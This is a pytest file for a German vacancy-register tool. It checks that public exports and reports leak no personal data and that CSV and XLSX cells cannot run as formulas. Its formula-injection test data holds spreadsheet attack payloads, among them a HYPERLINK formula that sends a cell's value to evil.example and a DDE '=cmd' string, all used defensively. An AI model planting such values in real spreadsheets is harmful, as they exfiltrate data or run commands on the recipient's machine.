"""Trust in the outputs (issue "Trust" 6, 7, 12).

* Privacy: every public output (exports, report PDF/XLSX, figures, presentation views) is the
  default and is built from the whitelists of :mod:`geo.register.model`; personal values planted in every
  free-text field never reach it, while the internal version, asked for, has them.
* Formula injection: no CSV or XLSX cell written by the project can run as a formula.
* Small ones: the export format follows the file's suffix; every output file gets the permissions
  of a normally created file.
"""

from __future__ import annotations

import argparse
import csv
import io
import os
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import matplotlib
import numpy as np
import openpyxl
import pandas as pd
import pytest
from pypdf import PdfReader

from geo import cli
from geo._files import FORMULA_TRIGGERS, safe_cell, write_csv, write_xlsx
from geo.access.roles import Role
from geo.app.exchange import export_bytes, figure_for
from geo.app.figures import longest_vacant_table
from geo.app.filters import Filters
from geo.app.mapdata import view_map_data
from geo.app.units import history_table, unit_details, unit_label
from geo.app.units import public_frame as app_public_frame
from geo.cli import report as report_cli
from geo.osm._synthetic import write_grid_osm
from geo.outputs import figures as F
from geo.outputs import maps, report
from geo.outputs.tables import emit
from geo.register.history import Register
from geo.register.io import export_frame, export_units
from geo.register.model import OBSERVATION_SOURCES, PUBLIC_COLUMNS, public_frame, public_record
from geo.register.stats import stats, status_at
from geo.register.store import ChangeSet, GeoPackageStore, open_store
from geo.walks import outreach
from tests.conftest import make_observations, make_units
from tests.signin import signed_in

OSTEN = {"quarter": "Leipziger Osten", "ortsteil": "Volkmarsdorf"}
START, END = date(2025, 1, 1), date(2025, 12, 31)
AT = date(2025, 12, 31)

#: A distinctive personal value in every free-text field (business_name is public by design).
UNIT_MARKS = {
    "owner_name": "GEHEIM-Frau-Mustermann-0341",
    "contact_person": "GEHEIM-Herr-Beispiel-0342",
    "contact_phone": "0341 GEHEIM-Telefon-0343",
    "contact_email": "geheim-mail-0344@example.org",
    "address_note": "bei Frau GEHEIM-Adresszusatz-0345",
}
OBS_MARKS = {
    "note": "GEHEIM-Notiz-Frau-Mustermann-0346",
    "source": "Hinweis von Frau GEHEIM-Quelle-0347",
    "recorded_by": "GEHEIM-Bearbeiterin-0348",
}
VISIT_MARKS = {"note": "GEHEIM-Besuchsnotiz-0349", "recorded_by": "GEHEIM-Besucher-0350"}
MARK = "geheim"  # every marker contains it (compared case-insensitively)


def _units(extra: dict[str, str]) -> list[dict]:
    return [
        {
            "unit_id": f"T-{i}",
            "street": "Eisenbahnstraße",
            "housenumber": str(10 + i),
            "postcode": "04315",
            "floor_area_m2": 50.0 + 10 * i,
            "use_class": "retail",
            "lon": 12.402 + i * 0.0007,
            "lat": 51.343,
            **OSTEN,
            **{k: f"{v} {i}" for k, v in extra.items()},
        }
        for i in range(8)
    ]


def _observations(extra: dict[str, str], *, business: str = "Laden") -> list[tuple]:
    rows: list[tuple] = []
    for i in range(8):
        uid = f"T-{i}"
        first = {k: f"{v} {i}a" for k, v in extra.items()}
        second = {k: f"{v} {i}b" for k, v in extra.items()}
        if i == 7:  # a source from the form's fixed list stays public
            second["source"] = OBSERVATION_SOURCES[0]
        if i % 2 == 0:  # occupied, then vacant in 2023: long vacancies at the period's end
            rows.append((uid, "2019-03-01", "occupied", f"{business} {i}", first))
            rows.append((uid, "2023-05-01", "vacant", None, second))
        else:  # vacant, then a new settlement in 2025
            rows.append((uid, "2020-03-01", "vacant", None, first))
            rows.append((uid, "2025-04-01", "occupied", f"{business} {i}", {**second, "new_settlement": True}))
    return rows


def _write_store(path: Path, units: list[dict], observations: list[tuple], visit_extra: dict[str, str]) -> Path:
    store = GeoPackageStore.create(path)
    store.write(ChangeSet(new_units=make_units(units), observations=make_observations(observations).drop(columns="obs_id")))
    visits = pd.DataFrame(
        [
            {"unit_id": f"T-{i}", "visited_on": pd.Timestamp("2025-06-01"), "outcome": "follow_up",
             "follow_up_on": pd.Timestamp("2025-07-01"), **{k: f"{v} {i}" for k, v in visit_extra.items()}}
            for i in range(3)
        ]
    )
    store.write(ChangeSet(visits=visits))
    return path


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Register]:
    path = tmp_path_factory.mktemp("planted") / "register.gpkg"
    _write_store(path, _units(UNIT_MARKS), _observations(OBS_MARKS), VISIT_MARKS)
    register = open_store(path).read()
    assert register.units["owner_name"].str.contains("GEHEIM").all()
    assert register.observations["note"].str.contains("GEHEIM").all()
    return path, register


# -- reading every output as text ---------------------------------------------------------------------


def xlsx_text(data: bytes) -> str:
    """Every XML part of a workbook (cells, shared strings, properties)."""
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        return "\n".join(book.read(n).decode("utf-8", "replace") for n in book.namelist() if n.endswith(".xml"))


def gpkg_text(path: Path) -> str:
    """Every row of every table of a GeoPackage (read with sqlite3)."""
    con = sqlite3.connect(path)
    try:
        return "\n".join(con.iterdump())
    finally:
        con.close()


def pdf_text(data: bytes) -> str:
    reader = PdfReader(io.BytesIO(data))
    meta = reader.metadata or {}
    return " ".join([*(p.extract_text() or "" for p in reader.pages), *(str(v) for v in meta.values())])


def file_text(path: Path) -> str:
    data = path.read_bytes()
    if path.suffix == ".xlsx":
        return xlsx_text(data)
    if path.suffix == ".gpkg":
        return gpkg_text(path)
    if path.suffix == ".pdf":
        return pdf_text(data)
    return data.decode("utf-8-sig", "replace")


def svg_text(fig: matplotlib.figure.Figure) -> str:
    """The SVG of a figure with its text as text (not paths), so it can be searched."""
    with matplotlib.rc_context({"svg.fonttype": "none"}):
        return F.figure_bytes(fig, fmt="svg").decode("utf-8")


def squeeze(text: str) -> str:
    """``text`` without any whitespace (a PDF table cell wraps a long value over lines)."""
    return re.sub(r"\s+", "", text)


def leaks(text: str) -> list[str]:
    """Where a marker occurs in ``text`` (case-insensitive, ignoring line breaks)."""
    low = squeeze(text).casefold()
    return sorted({low[max(0, i - 30) : i + 40] for i in _find_all(low, MARK)})


def _find_all(text: str, needle: str) -> Iterator[int]:
    start = text.find(needle)
    while start >= 0:
        yield start
        start = text.find(needle, start + 1)


def _cli_report(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(prog="python -m geo")
    report_cli.add_cli(parser.add_subparsers(dest="command"))
    return report_cli.run_cli(parser.parse_args(argv))


def public_outputs(path: Path, register: Register, folder: Path) -> dict[str, str]:
    """Every public output, produced with the defaults (no flag), as searchable text."""
    out: dict[str, str] = {}
    folder.mkdir(exist_ok=True)
    for fmt in ("csv", "xlsx", "geojson", "gpkg"):
        written = export_units(register, folder / f"lib.{fmt}", at=AT)
        assert written == folder / f"lib.{fmt}"
        out[f"export {fmt}"] = file_text(written)
        target = folder / f"cli.{fmt}"
        assert cli.main(["export", "--store", str(path), "--out", str(target), "--at", "2025-12-31"]) == 0
        out[f"cli export {fmt}"] = file_text(target)
        data = export_bytes(register, fmt=fmt, at=AT)
        if fmt in ("gpkg",):
            (folder / f"app.{fmt}").write_bytes(data)
            out[f"app export {fmt}"] = gpkg_text(folder / f"app.{fmt}")
        else:
            out[f"app export {fmt}"] = xlsx_text(data) if fmt == "xlsx" else data.decode("utf-8-sig")
    common = {"quarter": "Leipziger Osten", "start": START, "end": END}
    for unit_level in (False, True):
        buffer = io.BytesIO()
        report.build_report(register, out=buffer, dpi=60, unit_level=unit_level, **common)
        out[f"report pdf unit_level={unit_level}"] = pdf_text(buffer.getvalue())
        xlsx = io.BytesIO()
        report.period_figures_xlsx(register, out=xlsx, unit_level=unit_level, **common)
        out[f"report xlsx unit_level={unit_level}"] = xlsx_text(xlsx.getvalue())
        for name, fig in report.report_figures(register, unit_level=unit_level, **common).items():
            out[f"figure {name} {unit_level} svg"] = svg_text(fig)
            out[f"figure {name} {unit_level} png"] = F.figure_bytes(fig, fmt="png", dpi=40).decode("latin-1")
    pdf, xlsx_path = folder / "bericht.pdf", folder / "bericht.xlsx"
    code = _cli_report(["report", "--store", str(path), "--quarter", "Leipziger Osten", "--period", "2025",
                        "--unit-level", "--out", str(pdf), "--xlsx", str(xlsx_path)])
    assert code == 0
    out["cli report pdf"], out["cli report xlsx"] = file_text(pdf), file_text(xlsx_path)
    # presentation views (presentation mode: public=True)
    frame = status_at(register, AT)
    for uid in frame["unit_id"]:
        details = unit_details(frame, uid, public=True)
        out[f"unit panel {uid}"] = " ".join(details.texts())
        out[f"history {uid}"] = history_table(register, uid, public=True).to_csv()
        out[f"label {uid}"] = unit_label(frame.loc[frame["unit_id"] == uid].iloc[0].to_dict(), public=True)
    out["longest vacant"] = longest_vacant_table(register, at=AT).to_csv()
    out["public frame"] = app_public_frame(frame).to_csv()
    data = view_map_data(register, Filters(at=AT))
    out["map html"] = maps.render_map(data, basemap="none").get_root().render()
    for kind in ("rate", "events", "duration", "status_map", "change_map"):
        out[f"app figure {kind}"] = svg_text(figure_for(kind, register, Filters(at=AT), start=START))
    return out


# -- 6. privacy ----------------------------------------------------------------------------------------


def test_no_public_output_contains_a_planted_personal_value(planted, tmp_path: Path) -> None:
    path, register = planted
    outputs = public_outputs(path, register, tmp_path / "public")
    assert len(outputs) > 60
    found = {name: leaks(text) for name, text in outputs.items() if leaks(text)}
    assert not found
    # the search works on these texts: public values of the same rows are found
    for name in ("export csv", "export xlsx", "export geojson", "export gpkg", "report xlsx unit_level=True"):
        assert "Laden 1" in outputs[name], name
    assert "Eisenbahnstraße" in outputs["report pdf unit_level=True"]
    assert OBSERVATION_SOURCES[0] in outputs["export csv"]  # a listed source stays public
    assert "Leerstand" in outputs["figure leerstandsquote_leipziger-osten True svg"]


def test_the_internal_version_asked_for_contains_them(planted, tmp_path: Path) -> None:
    path, register = planted
    texts = [file_text(export_units(register, tmp_path / f"x.{fmt}", at=AT, internal=True))
             for fmt in ("csv", "xlsx", "geojson", "gpkg")]
    buffer = io.BytesIO()
    report.build_report(register, quarter="Leipziger Osten", start=START, end=END, out=buffer, dpi=60,
                        internal=True)
    texts.append(pdf_text(buffer.getvalue()))
    xlsx = io.BytesIO()
    report.period_figures_xlsx(register, quarter="Leipziger Osten", start=START, end=END, out=xlsx, internal=True)
    texts.append(xlsx_text(xlsx.getvalue()))
    frame = status_at(register, AT)
    details = unit_details(frame, "T-1", public=False)
    texts.append(" ".join(details.texts()))
    texts.append(history_table(register, "T-1", public=False).to_csv())
    texts.append(unit_label(frame.iloc[1].to_dict()))
    everything = squeeze("\n".join(texts))
    for mark in (*UNIT_MARKS.values(), *OBS_MARKS.values()):
        assert squeeze(mark) in everything, mark
    pdf = squeeze(texts[4])
    assert squeeze(UNIT_MARKS["owner_name"]) in pdf and squeeze(UNIT_MARKS["contact_phone"]) in pdf
    assert squeeze(UNIT_MARKS["address_note"]) in pdf
    assert UNIT_MARKS["owner_name"] in texts[5]  # the report XLSX


def test_whitelists_select_public_columns_and_listed_sources() -> None:
    frame = pd.DataFrame(
        {"unit_id": ["A", "B"], "owner_name": ["x", "y"], "address_note": ["bei Frau X", None],
         "source": [OBSERVATION_SOURCES[0], "bei Frau X"], "brand_new_column": [1, 2]}
    )
    public = public_frame(frame)
    assert list(public.columns) == ["unit_id", "source"]  # a new column is internal until listed
    assert public["source"].tolist() == [OBSERVATION_SOURCES[0], None]
    blanked = public_frame(frame, drop=False)
    assert list(blanked.columns) == list(frame.columns) and blanked["owner_name"].isna().all()
    assert public_record({"unit_id": "A", "address_note": "x", "source": "frei"}) == {"unit_id": "A", "source": None}
    internal = {"owner_name", "contact_person", "contact_phone", "contact_email", "address_note", "note",
                "recorded_by", "import_id", "created_at"}
    assert not internal & PUBLIC_COLUMNS


def test_internal_outputs_say_intern_in_name_title_and_metadata(planted, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    path, register = planted
    assert export_units(register, tmp_path / "liste.csv", internal=True) == tmp_path / "liste-intern.csv"
    assert export_units(register, tmp_path / "Liste_INTERN.csv", internal=True) == tmp_path / "Liste_INTERN.csv"
    book = openpyxl.load_workbook(export_units(register, tmp_path / "liste.xlsx", internal=True))
    assert "INTERN" in book.properties.title and "intern" in book.properties.subject
    assert any("intern" in str(v) for row in book["Info"].iter_rows(values_only=True) for v in row)
    geojson = export_units(register, tmp_path / "liste.geojson", internal=True).read_text(encoding="utf-8")
    assert '"einheiten_intern"' in geojson and "intern (enthält personenbezogene Daten)" in geojson
    info = gpkg_text(export_units(register, tmp_path / "liste.gpkg", internal=True))
    assert "intern (enthält personenbezogene Daten)" in info
    public = gpkg_text(export_units(register, tmp_path / "oeffentlich.gpkg"))
    assert "öffentlich (ohne personenbezogene Daten)" in public
    # report: CLI default public, --internal renames and marks
    out = tmp_path / "bericht.pdf"
    assert _cli_report(["report", "--store", str(path), "--period", "2025", "--out", str(out)]) == 0
    meta = PdfReader(out).metadata
    assert "INTERN" not in meta.title and "öffentlich" in meta.subject
    assert "öffentlich" in capsys.readouterr().out
    code = _cli_report(["report", "--store", str(path), "--period", "2025", "--internal", "--out", str(out),
                        "--xlsx", str(tmp_path / "zahlen.xlsx")])
    assert code == 0
    internal = tmp_path / "bericht-intern.pdf"
    meta = PdfReader(internal).metadata
    assert meta.title.startswith("INTERN") and meta.subject.startswith("intern")
    assert "INTERNER Bericht" in PdfReader(internal).pages[0].extract_text()
    assert "INTERN" in openpyxl.load_workbook(tmp_path / "zahlen-intern.xlsx").properties.title
    assert str(internal) in capsys.readouterr().out
    assert _cli_report(["report", "--store", str(path), "--period", "2025", "--internal", "--public",
                        "--out", str(out)]) == 2
    assert "widersprechen sich" in capsys.readouterr().err


def test_cli_export_is_public_by_default(planted, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, _ = planted
    out = tmp_path / "liste.csv"
    assert cli.main(["export", "--store", str(path), "--out", str(out)]) == 0
    assert "öffentlich" in capsys.readouterr().out and not leaks(out.read_text(encoding="utf-8-sig"))
    assert cli.main(["export", "--store", str(path), "--out", str(out), "--public"]) == 0  # old flag: accepted
    assert not leaks(out.read_text(encoding="utf-8-sig"))
    assert cli.main(["export", "--store", str(path), "--out", str(out), "--internal"]) == 0
    assert UNIT_MARKS["owner_name"] in (tmp_path / "liste-intern.csv").read_text(encoding="utf-8-sig")
    assert cli.main(["export", "--store", str(path), "--out", str(out), "--internal", "--public"]) == 2
    assert "widersprechen sich" in capsys.readouterr().err


# -- 12. format from the suffix --------------------------------------------------------------------------


def test_export_format_follows_the_suffix(planted, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path, register = planted
    out = tmp_path / "x.xlsx"
    assert cli.main(["export", "--store", str(path), "--format", "csv", "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "passt nicht zur Datei x.xlsx" in err and "Traceback" not in err
    assert not out.exists()
    assert cli.main(["export", "--store", str(path), "--out", str(out)]) == 0
    assert out.read_bytes()[:2] == b"PK"  # a real workbook
    assert cli.main(["export", "--store", str(path), "--out", str(tmp_path / "x.txt")]) == 2
    assert "nicht erkennbar" in capsys.readouterr().err
    assert cli.main(["export", "--store", str(path), "--format", "geojson", "--out", str(tmp_path / "y.json")]) == 0
    with pytest.raises(Exception, match="passt nicht"):
        export_units(register, tmp_path / "z.gpkg", fmt="csv")


# -- 7. formula injection ---------------------------------------------------------------------------------

PAYLOADS = {
    "business_name": '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
    "owner_name": "=1+2",
    "contact_person": "+49 170 GEHEIM",
    "contact_phone": "-0341 999",
    "contact_email": "@SUM(1+1)",
    "address_note": "\tTabulator",
    "note": "\r=Wagenrücklauf",
    "source": "=cmd|' /C calc'!A0",
    "recorded_by": "@Bearbeiter",
    "sector": "-Sektor",
    "ortsteil": "=Ortsteil()",
}


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Register]:
    units = [{**u, **{k: PAYLOADS[k] for k in (*UNIT_MARKS, "ortsteil")}} for u in _units({})]
    rows = []
    for uid, day, status, business, extra in _observations({}):
        extra = {**extra, **{k: PAYLOADS[k] for k in (*OBS_MARKS, "sector")}}
        rows.append((uid, day, status, PAYLOADS["business_name"] if business else None, extra))
    path = tmp_path_factory.mktemp("poisoned") / "register.gpkg"
    _write_store(path, units, rows, {"note": "=Besuch"})
    return path, open_store(path).read()


def _check_text_cell(value: str, where: str) -> None:
    assert not value.startswith(FORMULA_TRIGGERS) or _is_number(value), f"{where}: {value!r}"


def _is_number(text: str) -> bool:
    try:
        float(text.replace(".", "").replace(",", "."))
    except ValueError:
        return False
    return True


def check_csv(text: str, where: str, *, sep: str = ";") -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=sep) for c in row]
    for cell in cells:
        _check_text_cell(cell, where)
    return cells


def check_xlsx(source: Path | bytes, where: str) -> list[openpyxl.cell.Cell]:
    book = openpyxl.load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source, data_only=False)
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    for cell in cells:
        assert cell.data_type != "f", f"{where}: {cell.coordinate} {cell.value!r}"
        if isinstance(cell.value, str):
            _check_text_cell(cell.value, where)
    return cells


def test_no_csv_or_xlsx_cell_can_run_as_a_formula(poisoned, tmp_path: Path) -> None:
    path, register = poisoned
    neutral = {safe_cell(v) for v in PAYLOADS.values()}
    assert all(v.startswith("'") for v in neutral)
    seen: set[str] = set()
    for internal in (False, True):
        csv_path = export_units(register, tmp_path / f"e{internal}.csv", at=AT, internal=internal)
        seen |= set(check_csv(csv_path.read_text(encoding="utf-8-sig"), str(csv_path)))
        xlsx_path = export_units(register, tmp_path / f"e{internal}.xlsx", at=AT, internal=internal)
        cells = check_xlsx(xlsx_path, str(xlsx_path))
        seen |= {c.value for c in cells if isinstance(c.value, str)}
        numbers = [c for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
        assert numbers and all(c.data_type == "n" for c in numbers)  # numbers stay numbers
        for unit_level in (False, True):
            book = io.BytesIO()
            report.period_figures_xlsx(register, quarter=None, start=START, end=END, out=book, internal=internal,
                                  unit_level=unit_level)
            seen |= {c.value for c in check_xlsx(book.getvalue(), "report xlsx") if isinstance(c.value, str)}
        seen |= set(check_csv(export_bytes(register, fmt="csv", at=AT, internal=internal).decode("utf-8-sig"),
                              "app csv"))
    assert cli.main(["export", "--store", str(path), "--out", str(tmp_path / "cli.csv"), "--internal"]) == 0
    seen |= set(check_csv((tmp_path / "cli-intern.csv").read_text(encoding="utf-8-sig"), "cli csv"))
    unify = lambda values: {v.replace("\r", "\n") for v in values}  # noqa: E731 - XML reads CR as LF
    assert unify(neutral) <= unify(seen), unify(neutral) - unify(seen)
    # the command line's stats as CSV (street and Ortsteil names are user input)
    stream = io.StringIO()
    emit(stats(register, at=AT, by="ortsteil"), "csv", stream=stream)
    assert safe_cell(PAYLOADS["ortsteil"]) in check_csv(stream.getvalue(), "stats csv")


def test_import_validation_report_csv_is_neutralised(tmp_path: Path) -> None:
    bad = tmp_path / "liste.csv"
    bad.write_text(
        "Nr.;Straße;Hausnummer;PLZ;lon;lat;Datum;Status;Betrieb\n"
        "=E1;Eisenbahnstraße;66;04315;12,4038;51,3455;01.03.2024;=HYPERLINK(\"x\");@Betrieb\n",
        encoding="utf-8",
    )
    out = tmp_path / "bericht.csv"
    code = cli.main(["import", str(bad), "--store", str(tmp_path / "neu.gpkg"), "--report", str(out)])
    assert code == 2
    cells = check_csv(out.read_text(encoding="utf-8-sig"), "report csv")
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def test_figure_data_tables_are_neutralised() -> None:
    from geo.outputs import building_figures as bf

    table = pd.DataFrame(
        {"group": ["=Ortsteil()", "+Ort"], "date": [pd.Timestamp("2024-01-01")] * 2, "buildings": [10, 12],
         "footprint_m2": [1000.0, 1200.0], "commercial": [2, 3], "added": [0, -1], "removed": [1, 0],
         "changed": [0, 0], "geometry_changed": [0, 0], "use_changed": [0, 0]}
    )
    cells = check_csv(bf.figures_csv(table).decode("utf-8-sig"), "buildings csv")
    assert "'=Ortsteil()" in cells and "-1" in cells  # a negative number stays a plain number
    xlsx = check_xlsx(bf.figures_xlsx(table), "buildings xlsx")
    assert "'+Ort" in {c.value for c in xlsx}
    assert any(c.value == -1 and c.data_type == "n" for c in xlsx)


def test_sheet_helpers_keep_numbers_and_force_text(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"text": ["=1+1", "-x", "ok", None, "\tt"], "num": [-1.5, 2.0, -3.0, np.nan, 0.0],
         "cat": pd.Categorical(["@a", "b", "@a", "b", "b"]), "=kopf": [1, 2, 3, 4, 5]}
    )
    write_csv(frame, tmp_path / "a.csv")
    rows = list(csv.reader(io.StringIO((tmp_path / "a.csv").read_text(encoding="utf-8-sig"), newline=""),
                           delimiter=";"))
    assert rows[0] == ["text", "num", "cat", "'=kopf"]
    assert rows[1] == ["'=1+1", "-1,5", "'@a", "1"] and rows[2][0] == "'-x" and rows[4][0] == ""
    write_xlsx({"S": frame}, tmp_path / "a.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "a.xlsx")["S"]
    assert ws["A2"].value == "'=1+1" and ws["A2"].data_type == "s"
    assert ws["B2"].value == -1.5 and ws["B2"].data_type == "n"
    assert ws["D1"].value == "'=kopf"
    assert frame["text"].iloc[0] == "=1+1"  # the caller's frame is left alone


# -- 12. file permissions --------------------------------------------------------------------------------


@pytest.fixture
def umask_027() -> Iterator[int]:
    """A umask other than the usual one, so that a hard-coded 0644 would show too."""
    old = os.umask(0o027)
    try:
        yield 0o640
    finally:
        os.umask(old)


def _mode(path: Path) -> int:
    return path.stat().st_mode & 0o777


def test_every_output_file_gets_normal_permissions(planted, tmp_path: Path, umask_027: int) -> None:
    path, register = planted
    reference = tmp_path / "normal.txt"
    reference.write_text("x")
    assert _mode(reference) == umask_027
    written: list[Path] = []
    for fmt in ("csv", "xlsx", "geojson", "gpkg"):
        written.append(export_units(register, tmp_path / f"e.{fmt}", at=AT))
        written.append(export_units(register, tmp_path / f"e.{fmt}", at=AT, internal=True))
    assert _cli_report(["report", "--store", str(path), "--period", "2025", "--out", str(tmp_path / "b.pdf"),
                        "--xlsx", str(tmp_path / "b.xlsx")]) == 0
    written += [tmp_path / "b.pdf", tmp_path / "b.xlsx"]
    report.period_figures_xlsx(register, quarter=None, start=START, end=END, out=tmp_path / "k.xlsx")
    written.append(tmp_path / "k.xlsx")
    fig = F.events_figure(pd.DataFrame(columns=["period", "new_settlements", "closures"]))
    for fmt in ("png", "svg"):
        F.save_figure(fig, tmp_path / f"f.{fmt}", fmt=fmt)
        written.append(tmp_path / f"f.{fmt}")
    bad = tmp_path / "bad.csv"
    bad.write_text("Nr.;Status\nX;kaputt\n", encoding="utf-8")
    for suffix in ("csv", "json", "txt"):
        out = tmp_path / f"pruef.{suffix}"
        cli.main(["import", str(bad), "--store", str(tmp_path / "n.gpkg"), "--report", str(out)])
        written.append(out)
    # walk outputs (sheet PDF, GPX, JSON, QField GeoPackage) on a small synthetic network
    grid = write_grid_osm(tmp_path / "grid.osm", nx=14, ny=8, spacing_m=50, seed=3)
    from geo.walks.network import load_walk_graph

    walk = outreach.plan_outreach(register, load_walk_graph(grid.path), at=AT, picked=["T-0", "T-1", "T-2"],
                                  start=(12.402, 51.343))
    for suffix in ("gpx", "pdf", "json", "gpkg"):
        written.append(walk.write(tmp_path / f"walk.{suffix}"))
    from geo.walks.walksheet import write_walk_sheet

    written.append(write_walk_sheet(walk.plan, tmp_path / "laufzettel.pdf", at=AT))
    modes = {p.name: oct(_mode(p)) for p in written}
    assert all(p.exists() for p in written)
    assert set(modes.values()) == {oct(umask_027)}, modes
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".qm-")]  # no temp file left


def test_atomic_output_leaves_the_old_file_on_failure(tmp_path: Path) -> None:
    from geo._files import atomic_output

    target = tmp_path / "x.csv"
    target.write_text("alt")
    with pytest.raises(RuntimeError), atomic_output(target) as tmp:
        tmp.write_text("halb")
        raise RuntimeError("boom")
    assert target.read_text() == "alt" and [p.name for p in tmp_path.iterdir()] == ["x.csv"]
    with pytest.raises(Exception, match="existiert nicht"), atomic_output(tmp_path / "no" / "x.csv"):
        pass


def test_export_frame_public_default_has_only_whitelisted_columns(planted) -> None:
    _, register = planted
    frame = export_frame(register, at=AT)
    assert set(frame.columns) <= PUBLIC_COLUMNS
    assert set(export_frame(register, at=AT, internal=True).columns) > set(frame.columns)


@pytest.mark.parametrize("role", [Role.OFFICE, Role.CITY])
def test_the_city_role_sees_no_planted_value_in_the_unit_panel_or_the_presentation(planted, role) -> None:
    from streamlit.testing.v1 import AppTest

    path, _ = planted
    root = Path(__file__).resolve().parents[2]
    at = AppTest.from_file(str(root / "streamlit_app.py"), default_timeout=60)
    at.session_state["qm_store_path"] = str(path)
    signed_in(at, role)
    at.query_params.update({"stichtag": "2025-12-31"})
    at.run()
    at.switch_page("pages/karte.py").run()
    at.text_input(key="qm_unit_query").set_value("Eisenbahnstraße").run()
    assert not at.exception, [e.value for e in at.exception]

    def shown() -> str:
        parts = [str(e.value) for kind in ("markdown", "caption", "subheader", "info", "text") for e in getattr(at, kind)]
        parts += [d.value.to_string() for d in at.dataframe]
        parts += [str(o) for s in at.selectbox for o in s.options]
        return "\n".join(parts)

    if role == Role.OFFICE:
        assert leaks(shown())  # internal view: the panel shows the address note and contacts
        return
    assert "Eisenbahnstraße" in shown() and not leaks(shown())
    at.switch_page("pages/praesentation.py").run()
    assert not at.exception and not leaks(shown())
